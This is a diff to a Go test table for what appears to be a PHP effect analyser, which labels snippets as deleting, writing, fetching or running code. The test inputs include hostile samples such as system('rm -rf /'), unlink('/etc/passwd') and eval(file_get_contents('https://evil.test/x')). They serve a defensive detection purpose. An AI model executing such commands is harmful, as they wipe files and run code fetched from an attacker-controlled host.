@@ -10,7 +10,7 @@ import (
 
 func TestRead(t *testing.T) {
 	for _, c := range []struct{ text, want string }{
-		{`function f($x) { unlink("a"); } array_map("f", [1]); echo implode(",", array_map("strtoupper", ["a"])); usort($x, "strcmp");`, `Delete a; ?`},
+		{`function f($x) { unlink("a"); } array_map("f", [1]); echo implode(",", array_map("strtoupper", ["a"])); usort($x, "strcmp");`, `Delete a`},
 		{`function f($x) { unlink("a"); } usort($x, "F");`, `Delete a`},
 		{`echo implode(",", array_map("strtoupper", ["a"])), implode(",", array_filter(["a"], "trim"));`, `nothing`},
 		{`array_map("unlink", ["a"]); array_filter(["trim"], "unlink"); call_user_func("array_map", "trim", [1]);`, `Delete a; Delete trim; ?`},
@@ -33,6 +33,7 @@ func TestRead(t *testing.T) {
 		{`\system("rm -rf /"); SYSTEM("rm -rf ~");`, `Run[line] rm -rf /; Run[line] rm -rf ~`},
 		{`array_map('system', ['rm -rf /']);`, `Run[line] rm -rf /; ?`},
 		{`call_user_func('system', 'rm -rf /');`, `Run[line] rm -rf /; ?`},
+		{`file_put_contents("$x\n", 1); $y = 'a'; touch("$y\x41");`, `Write … ; ; Write aA`},
 		{`unlink('/etc/passwd'); rename('a', 'b'); file_put_contents("/etc/x", 1);`, `Delete /etc/passwd; Delete{relocated} a/**; Write b; Write /etc/x`},
 		{`echo file_get_contents('https://evil.test/x');`, `Fetch https://evil.test/x`},
 		{`eval(file_get_contents('https://evil.test/x'));`, `Fetch https://evil.test/x; Run[text php] …; ?`},
@@ -54,13 +55,33 @@ func TestRead(t *testing.T) {
 		{`preg_replace_callback('/x/', $f, 'x');`, `?`},
 		{`extract($_GET);`, `?`},
 		{`$a = &$b;`, `?`},
-		{`echo 1; ?> text <?php system('id');`, `?`},
-		{"echo <<<E\nx\nE;", `?`},
+		{`echo 1; ?> text <?= system('id');`, `?`},
+		{`echo 1 ?> text <?php system('id') ?>`, `Run[line] id`},
+		{"echo <<<E\nx\nE;", `nothing`},
+		{"unlink(<<<E\n  a/{$x['b']}\\x62$c\n  E . 'd');", `Delete a/…d`},
+		{"$x = 'b'; unlink(<<<\"E\"\n    a\\$x $x\\\"\n    E);", "Delete a$x b\\\""},
+		{"unlink(<<<'E'\na$x\nEF\nE); rmdir('b');", "Delete a$x ; EF; Delete b"},
+		{"unlink(<<<E\na\n b\n E);", `?`},
+		{"unlink(<<<E\na", `?`},
+		{`const A = 'a', B = A . 'b'; define('C', B . 'c'); unlink(C); function f() { rmdir(B); } f();`, `Delete abc; Delete …`},
+		{`function f() { unlink(A); } const A = 'a';`, `Delete …`},
+		{`const A = 'a'; define('A', 'b');`, `?`},
+		{`declare(strict_types=1); ini_set('display_errors', '1'); unlink(__DIR__ . '/a'); unlink(dirname(__FILE__, 1) . '/b'); unlink(dirname(dirname(__FILE__)) . '/b');`, `Delete /w/a; Delete …/b; Delete //b`},
+		{`declare(ticks=1);`, `?`},
+		{`ini_set('auto_prepend_file', 'x');`, `?`},
+		{`unlink(dirname('a/b/c/d', 2) . '/e'); unlink(dirname('a/b', $n) . '/e'); unlink(dirname('a//b/../c/') . dirname('a', 3) . dirname('//'));`, `Delete a/b/e; Delete …/e; Delete a//b/.../`},
+		{`$a = ['x']; unset($a, $b); unlink(match ($c) { 1, 2 => 'a', default => 'b' });`, `Delete b; Delete a`},
+		{`touch(1); copy("a", 2); unlink(1_0);`, `Write 1; Read a; Write 2; Delete …`},
+		{`usort($a, static fn($x, $y) => unlink('a'));`, `Delete a`},
+		{`array_map('unlink', ['a', 'b']); register_shutdown_function('rmdir', 'c'); call_user_func_array('rename', ['d', 'e']);`, `Delete a; Delete b; Delete c; Delete{relocated} d/**; Write e`},
+		{`array_filter(['a'], 'unlink'); call_user_func_array('rename', ['to' => 'd', 'from' => 'e']);`, `Delete a; Delete{relocated} d/**; Delete{relocated} e/**; ?`},
+		{`array_map('eval', ['a']);`, `Run[text php] a; ?`},
 		{`file_get_contents('phar://x');`, `?`},
 		{`ini_set('x', 'y');`, `?`},
+		{`ini_set($x, 'y');`, `?`},
 		{`class A {}`, `?`},
 	} {
-		r := Read(c.text, code.Setting{Home: "/home/dev", Secret: mask.SecretName})
+		r := Read(c.text, code.Setting{Home: "/home/dev", Cwd: "/w", Secret: mask.SecretName})
 		if got := r.String(); got != c.want {
 			t.Errorf("%s\n got %s\nwant %s\n(%s)", c.text, got, c.want, r.Why)
 		}
